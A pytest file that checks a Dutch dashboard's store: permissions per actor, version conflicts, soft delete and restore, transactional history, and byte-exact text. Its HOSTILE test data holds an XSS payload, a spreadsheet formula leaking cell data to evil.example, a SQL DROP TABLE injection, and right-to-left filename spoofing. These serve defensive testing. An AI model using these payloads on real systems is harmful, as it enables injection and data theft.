"""Rules every write of users' work obeys, tested on each kind (afspraak, ambitie, duiding,
werkgebied): the right on the object as stored and as it will be, optimistic versions, soft
delete and restore, history in the same transaction, text kept byte for byte."""

from __future__ import annotations

import pytest

from dashboard import store
from dashboard.store.errors import Conflict, NotFound, PermissionDenied, ValidationError
from tests.store.conftest import make_user
from tests.store.entities import KINDS

ACTORS = ("anonymous", "own", "other", "party", "beheerder", "disabled")
# Who may write the objects of `entities.py` (region GM0363; the afspraak and the ambitie also
# have PO2707 as a party/region, duiding and werkgebied do not).
ALLOWED = {
    "anonymous": set(), "other": set(), "disabled": set(),
    "own": set(KINDS), "beheerder": set(KINDS), "party": {"afspraak", "ambitie"},
}
HOSTILE = {
    "html": '<script>alert("x")</script><img src=x onerror=alert(1)> &amp; &lt;b&gt;',
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")',
    "sql": "'; DROP TABLE afspraken; --",
    "long": ("Lange tekst met é, ñ en 😀. " * 400)[:10_000],
    "rtl_emoji": "مرحبا بالعالم \u202eexe.gnp\u202c שלום 👩🏽\u200d💻 🇳🇱 e\u0301 \ufeff",
    "whitespace": "  regel 1\r\nregel 2\ttab\n\n  ",
}


def count_history(s) -> int:
    return len(store.history.recent(s, limit=100_000))


def make(kind: str, actor_id, **overrides) -> dict:
    with store.session() as s:
        return KINDS[kind].write("create", s, actor_id=actor_id,
                                 data=KINDS[kind].data(**overrides))


@pytest.mark.parametrize("kind", sorted(KINDS))
@pytest.mark.parametrize("who", ACTORS)
def test_rights_matrix_for_create_update_and_delete(users, kind, who):
    """Each actor may create, update and delete exactly the kinds the matrix allows; a refused
    write changes nothing and leaves no history."""
    k, allowed = KINDS[kind], kind in ALLOWED[who]
    actor = users[who]
    obj = make(kind, users["beheerder"])
    with store.session() as s:
        before = count_history(s)
    for action, version in (("create", None), ("update", 1), ("delete", 2 if allowed else 1)):
        if allowed:
            with store.session() as s:
                k.write(action, s, actor_id=actor, obj_id=obj["id"], version=version)
        else:
            with pytest.raises(PermissionDenied) as err, store.session() as s:
                k.write(action, s, actor_id=actor, obj_id=obj["id"], version=version)
            assert err.value.message
    with store.session() as s:
        stored = k.get(s, obj["id"], include_deleted=True)
        if allowed:
            assert count_history(s) == before + 3
            assert stored["version"] == 3 and stored["deleted_at"] is not None
        else:
            assert count_history(s) == before
            assert stored == obj


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_right_is_needed_on_the_object_as_it_will_be(users, kind):
    """A redacteur cannot move an object of their region out of it."""
    k = KINDS[kind]
    obj = make(kind, users["own"])
    with pytest.raises(PermissionDenied), store.session() as s:
        k.write("update", s, actor_id=users["own"], obj_id=obj["id"], version=1, data=k.moved())
    with store.session() as s:
        assert k.get(s, obj["id"]) == obj


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_right_is_needed_on_the_object_as_stored(users, kind):
    """A redacteur cannot pull an object of another region into theirs."""
    k = KINDS[kind]
    obj = make(kind, users["beheerder"])
    with store.session() as s:
        moved = k.write("update", s, actor_id=users["beheerder"], obj_id=obj["id"], version=1,
                        data=k.moved())
    with pytest.raises(PermissionDenied), store.session() as s:
        k.write("update", s, actor_id=users["own"], obj_id=obj["id"], version=2, data=k.data())
    for action in ("delete",):
        with pytest.raises(PermissionDenied), store.session() as s:
            k.write(action, s, actor_id=users["own"], obj_id=obj["id"], version=2)
    with store.session() as s:
        assert k.get(s, obj["id"]) == moved


def test_a_werkgebied_redacteur_writes_their_werkgebied_whatever_its_members(users):
    """A redacteur given a werkgebied's code may change it, also to members outside their own."""
    wg = make("werkgebied", users["beheerder"], members=("GM0599",))
    assert wg["code"] == "WG0001"
    editor = make_user("wg@example.nl", regions=("WG0001",))
    with store.session() as s:
        changed = store.werkgebieden.update(
            s, actor_id=editor, werkgebied_id=wg["id"], expected_version=1,
            data={"members": [{"gemeente_code": "GM0344", "weight": 0.25}]})
    assert changed["members"] == [{"gemeente_code": "GM0344", "weight": 0.25}]


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_stale_version_is_a_conflict_and_overwrites_nothing(users, kind):
    """An update or delete against an old version raises Conflict carrying both versions."""
    k = KINDS[kind]
    obj = make(kind, users["own"])
    with store.session() as s:
        first = k.write("update", s, actor_id=users["own"], obj_id=obj["id"], version=1)
    stale = {k.text_fields[0]: "Mijn oudere wijziging"}
    with pytest.raises(Conflict) as err, store.session() as s:
        k.write("update", s, actor_id=users["own"], obj_id=obj["id"], version=1, data=stale)
    assert err.value.current == first and err.value.current["version"] == 2
    assert err.value.attempted[k.text_fields[0]] == "Mijn oudere wijziging"
    assert err.value.attempted["version"] == 1
    assert "intussen gewijzigd" in err.value.message
    with pytest.raises(Conflict), store.session() as s:
        k.write("delete", s, actor_id=users["own"], obj_id=obj["id"], version=1)
    with store.session() as s:
        assert k.get(s, obj["id"]) == first
        assert [h["version"] for h in store.history.for_entity(s, kind, obj["id"])] == [2, 1]


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_soft_delete_and_restore(users, kind):
    """A deleted object is hidden but kept; it cannot be edited until restored."""
    k = KINDS[kind]
    obj = make(kind, users["own"])
    with store.session() as s:
        deleted = k.write("delete", s, actor_id=users["own"], obj_id=obj["id"], version=1)
    assert deleted["version"] == 2 and deleted["deleted_at"] is not None
    with store.session() as s:
        assert k.get(s, obj["id"]) is None
        assert k.get(s, obj["id"], include_deleted=True) == deleted
    with pytest.raises(NotFound), store.session() as s:
        k.write("update", s, actor_id=users["own"], obj_id=obj["id"], version=2)
    with pytest.raises(NotFound), store.session() as s:
        k.write("delete", s, actor_id=users["own"], obj_id=obj["id"], version=2)
    with store.session() as s:
        restored = k.write("restore", s, actor_id=users["own"], obj_id=obj["id"], version=2)
    assert restored == {**obj, "version": 3, "updated_at": restored["updated_at"]}
    with pytest.raises(ValidationError), store.session() as s:
        k.write("restore", s, actor_id=users["own"], obj_id=obj["id"], version=3)
    with store.session() as s:
        rows = store.history.for_entity(s, kind, obj["id"])
    assert [(r["action"], r["version"]) for r in rows] == [
        ("restore", 3), ("delete", 2), ("create", 1)]
    assert rows[1]["before"]["deleted_at"] is None and rows[1]["after"]["deleted_at"]
    assert {r["actor_label"] for r in rows} == {"Amsterdam <amsterdam@example.nl>"}


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_missing_object_is_not_found(users, kind):
    """Writing an id that does not exist raises NotFound."""
    for action in ("update", "delete", "restore"):
        with pytest.raises(NotFound), store.session() as s:
            KINDS[kind].write(action, s, actor_id=users["beheerder"], obj_id=4242, version=1)


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_history_row_is_written_in_the_same_transaction(users, kind, monkeypatch):
    """When recording history fails the change is rolled back too; when it succeeds both
    become visible at the same commit."""
    k = KINDS[kind]
    obj = make(kind, users["own"])
    with store.session() as s:
        before = count_history(s)

    def broken(*_args, **_kwargs):
        raise RuntimeError("history unavailable")

    with monkeypatch.context() as m:
        m.setattr(store.history, "record", broken)
        for action, version in (("create", None), ("update", 1), ("delete", 1)):
            with pytest.raises(RuntimeError), store.session() as s:
                k.write(action, s, actor_id=users["own"], obj_id=obj["id"], version=version)
    with store.session() as s:
        assert k.get(s, obj["id"]) == obj
        assert len(store.history.for_entity(s, kind, obj["id"])) == 1
        assert count_history(s) == before

    with store.session() as s:
        k.write("update", s, actor_id=users["own"], obj_id=obj["id"], version=1)
        with store.session(readonly=True) as other:
            assert k.get(other, obj["id"])["version"] == 1
            assert len(store.history.for_entity(other, kind, obj["id"])) == 1
        assert len(store.history.for_entity(s, kind, obj["id"])) == 2
    with store.session() as s:
        assert k.get(s, obj["id"])["version"] == 2


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_hostile_text_is_stored_and_returned_byte_exact(users, kind):
    """Markup, formulas, SQL, 10,000 characters, right-to-left marks and emoji come back
    exactly as typed, in the object and in its history."""
    k = KINDS[kind]
    for name, text in HOSTILE.items():
        short, long = k.text_fields
        fields = {short: text[:200], long: text}
        obj = make(kind, users["own"], **fields)
        with store.session() as s:
            stored = k.get(s, obj["id"])
            after = store.history.for_entity(s, kind, obj["id"])[0]["after"]
        for field, value in fields.items():
            assert stored[field] == value, (name, field)
            assert stored[field].encode() == value.encode(), (name, field)
            assert after[field] == value, (name, field)


def test_hostile_text_in_lists_and_accounts_is_kept(users):
    """Partners of an agreement and an account's name and organisation are kept exactly."""
    partners = [HOSTILE["html"], HOSTILE["formula"], HOSTILE["rtl_emoji"]]
    obj = make("afspraak", users["own"], partners=partners)
    user_id = make_user("vreemd@example.nl", name=HOSTILE["rtl_emoji"][:200])
    with store.session() as s:
        assert store.agreements.get(s, obj["id"])["partners"] == partners
        assert store.accounts.get_user(s, user_id)["name"] == HOSTILE["rtl_emoji"][:200]


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_text_over_twenty_thousand_characters_or_with_nul_is_refused(users, kind):
    """Text longer than 20,000 characters, or holding NUL, is a validation error."""
    k = KINDS[kind]
    field = k.text_fields[1]
    for text in ("x" * 20_001, "a\x00b"):
        with pytest.raises(ValidationError) as err:
            make(kind, users["own"], **{field: text})
        assert err.value.errors[0][0] == field
    make(kind, users["own"], **{field: "x" * 20_000})


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_unknown_fields_are_refused(users, kind):
    """A field the store does not know is a validation error, not silently dropped."""
    with pytest.raises(ValidationError) as err:
        make(kind, users["own"], password="geheim")
    assert err.value.errors == [("password", "Onbekend veld: password.")]
